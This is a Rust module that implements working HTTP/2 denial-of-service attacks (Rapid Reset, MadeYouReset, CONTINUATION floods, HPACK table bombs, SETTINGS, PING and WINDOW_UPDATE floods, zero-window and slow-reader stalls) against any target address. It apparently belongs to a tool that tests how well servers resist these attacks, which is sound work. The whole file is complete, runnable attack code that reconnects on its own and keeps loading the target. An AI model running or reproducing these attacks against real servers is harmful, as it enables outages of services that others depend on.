//! Attacks, each on a few HTTP/2 connections.

use super::frames::*;
use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// Time between two batches on a connection: the load needs the processor, too.
const TICK: Duration = Duration::from_millis(1);

/// Bytes of a batch, which is sent after the previous one was taken: at most 4 MB/s per connection.
const BATCH: usize = 4 << 10;

/// Time before a closed connection is made again.
const AGAIN: Duration = Duration::from_millis(10);

/// Open streams of attacks that hold some.
const STREAMS: u32 = 100;

/// Bytes that a slow reader reads every [`SLOWLY`] ticks.
const SIP: usize = 1 << 10;
const SLOWLY: u64 = 20;

/// A way to keep a server busy.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) words: &'static str,
    /// Number of connections.
    pub(super) connections: usize,
    /// Bytes of a response.
    pub(super) body: u64,
    /// The attacker hardly reads.
    slow: bool,
    /// Writes the first bytes after the preface, with the connection's settings.
    begin: fn(&mut Sender),
    /// Appends to a batch; called until it is full.
    more: fn(&mut Sender),
}

/// In the order of the table.
pub(super) static ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid-reset",
        words: "requests that are reset at once (Rapid Reset)",
        begin: open_windows,
        more: |sender| {
            let stream = sender.request(GET, END_STREAM);
            frame(&mut sender.out, RST_STREAM, 0, stream, &[0, 0, 0, 8]);
        },
        ..PLAIN
    },
    Attack {
        name: "made-you-reset",
        words: "requests that the server has to reset (MadeYouReset)",
        begin: open_windows,
        more: |sender| {
            let stream = sender.request(GET, END_STREAM);
            frame(&mut sender.out, WINDOW_UPDATE, 0, stream, &[0; 4]);
        },
        ..PLAIN
    },
    Attack {
        name: "continuation",
        words: "header blocks without end (CONTINUATION)",
        begin: |sender| {
            open_windows(sender);
            frame(&mut sender.out, HEADERS, END_STREAM, 1, GET);
        },
        more: |sender| frame(&mut sender.out, CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']),
        ..PLAIN
    },
    Attack {
        name: "settings",
        words: "SETTINGS",
        begin: open_windows,
        more: |sender| settings(&mut sender.out, &[]),
        ..PLAIN
    },
    Attack {
        name: "ping",
        words: "PING",
        begin: open_windows,
        more: |sender| frame(&mut sender.out, PING, 0, 0, &[0; 8]),
        ..PLAIN
    },
    Attack {
        name: "empty-data",
        words: "DATA without data",
        begin: |sender| {
            open_windows(sender);
            sender.request(POST, 0);
        },
        more: |sender| frame(&mut sender.out, DATA, 0, 1, &[]),
        ..PLAIN
    },
    Attack {
        name: "window-update",
        words: "WINDOW_UPDATE by one byte",
        begin: |sender| settings(&mut sender.out, &[]),
        more: |sender| frame(&mut sender.out, WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
        ..PLAIN
    },
    Attack {
        name: "hpack-bomb",
        words: "fields that name a large entry of the table again and again",
        begin: |sender| {
            open_windows(sender);
            let mut block = GET.to_vec();
            indexed_field(&mut block, "x", &[b'y'; 3_900]);
            sender.request(&block, END_STREAM);
        },
        more: |sender| {
            let mut block = GET.to_vec();
            block.resize(4_000, 0xbe); // the newest entry
            sender.request(&block, END_STREAM);
        },
        ..PLAIN
    },
    Attack {
        name: "table-size",
        words: "tables that are emptied and filled again",
        begin: open_windows,
        more: |sender| {
            settings(&mut sender.out, &[(TABLE_SIZE, 0)]);
            settings(&mut sender.out, &[(TABLE_SIZE, 4096)]);
            let mut block = vec![0x20, 0x3f, 0xe1, 0x1f]; // to 0, and to 4,096
            block.extend_from_slice(GET);
            for n in 0..60 {
                indexed_field(&mut block, &format!("x-{n}"), &[b'y'; 40]);
            }
            sender.request(&block, END_STREAM);
        },
        ..PLAIN
    },
    Attack {
        name: "zero-window",
        words: "windows that stay closed but for a byte now and then",
        connections: 4,
        body: 64 << 10,
        begin: |sender| {
            settings(&mut sender.out, &[(INITIAL_WINDOW, 0)]);
            for _ in 0..STREAMS {
                sender.request(GET, END_STREAM);
            }
        },
        more: |sender| {
            let stream = 1 + 2 * (sender.turn as u32 % STREAMS);
            frame(&mut sender.out, WINDOW_UPDATE, 0, stream, &1u32.to_be_bytes());
            sender.full = true; // one a tick
        },
        ..PLAIN
    },
    Attack {
        name: "slow-readers",
        words: "responses that are read by a kilobyte",
        connections: 4,
        body: 128 << 10,
        slow: true,
        begin: |sender| {
            open_windows(sender);
            for _ in 0..STREAMS {
                sender.request(GET, END_STREAM);
            }
        },
        more: |sender| sender.full = true,
    },
];

/// One connection that sends nothing.
const PLAIN: Attack = Attack {
    name: "",
    words: "",
    connections: 1,
    body: 1 << 10,
    slow: false,
    begin: |_| {},
    more: |sender| sender.full = true,
};

/// Opens the windows as far as possible.
fn open_windows(sender: &mut Sender) {
    settings(&mut sender.out, &[(INITIAL_WINDOW, MOST)]);
    frame(&mut sender.out, WINDOW_UPDATE, 0, 0, &(MOST - 65_535).to_be_bytes());
}

/// State of a connection's output.
#[derive(Default)]
struct Sender {
    out: Vec<u8>,
    /// The next stream's number, less one.
    streams: u32,
    /// Number of batches so far.
    turn: u64,
    /// The batch must not grow.
    full: bool,
}

impl Sender {
    /// Begins a stream with a complete header block; returns its number.
    fn request(&mut self, block: &[u8], flags: u8) -> u32 {
        let stream = self.streams + 1;
        self.streams += 2;
        frame(&mut self.out, HEADERS, flags | END_HEADERS, stream, block);
        stream
    }

    fn batch(&mut self, attack: &Attack) {
        self.full = false;
        while !self.full && self.out.len() < BATCH {
            (attack.more)(self);
        }
        self.turn += 1;
    }
}

/// An attacker's connection.
struct Connection {
    socket: Option<TcpStream>,
    sender: Sender,
    /// When to connect again.
    again: Instant,
}

/// An attack that runs until it is dropped.
pub(super) struct Running {
    stop: Arc<AtomicBool>,
    ended: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Running {
    pub(super) fn start(attack: &'static Attack, to: SocketAddr) -> Self {
        let (stop, ended) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicU64::new(0)));
        let (stopped, count) = (stop.clone(), ended.clone());
        let thread = std::thread::spawn(move || {
            let new = || Connection { socket: None, sender: Sender::default(), again: Instant::now() };
            let mut connections: Vec<_> = (0..attack.connections).map(|_| new()).collect();
            for tick in 0.. {
                if stopped.load(Ordering::Relaxed) {
                    return;
                }
                for connection in &mut connections {
                    if connection.go_on(attack, to, tick).is_err() {
                        connection.socket = None;
                        connection.again = Instant::now() + AGAIN;
                        count.fetch_add(1, Ordering::Relaxed);
                    }
                }
                std::thread::sleep(TICK);
            }
        });
        Self { stop, ended, thread: Some(thread) }
    }

    /// Number of connections that the other side has closed.
    pub(super) fn ended(&self) -> u64 {
        self.ended.load(Ordering::Relaxed)
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

impl Connection {
    /// Sends the next batch, and reads what has arrived.
    ///
    /// # Errors
    /// The connection was closed.
    fn go_on(&mut self, attack: &Attack, to: SocketAddr, tick: u64) -> std::io::Result<()> {
        let Some(socket) = &mut self.socket else {
            if self.again <= Instant::now() {
                let socket = TcpStream::connect(to)?;
                socket.set_nonblocking(true)?;
                socket.set_nodelay(true)?;
                self.socket = Some(socket);
                self.sender = Sender { out: PREFACE.to_vec(), ..Sender::default() };
                (attack.begin)(&mut self.sender);
            }
            return Ok(());
        };
        if !attack.slow {
            let mut room = [0; 64 << 10];
            while taken(socket.read(&mut room))? == room.len() {}
        } else if tick.is_multiple_of(SLOWLY) {
            taken(socket.read(&mut [0; SIP]))?;
        }
        if self.sender.out.is_empty() {
            self.sender.batch(attack);
        }
        while !self.sender.out.is_empty() {
            match socket.write(&self.sender.out) {
                Ok(n) => drop(self.sender.out.drain(..n)),
                Err(error) if error.kind() == ErrorKind::WouldBlock => break,
                Err(error) => return Err(error),
            }
        }
        Ok(())
    }
}

/// Number of bytes read.
fn taken(read: std::io::Result<usize>) -> std::io::Result<usize> {
    match read {
        Ok(0) => Err(ErrorKind::UnexpectedEof.into()),
        Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(0),
        read => read,
    }
}
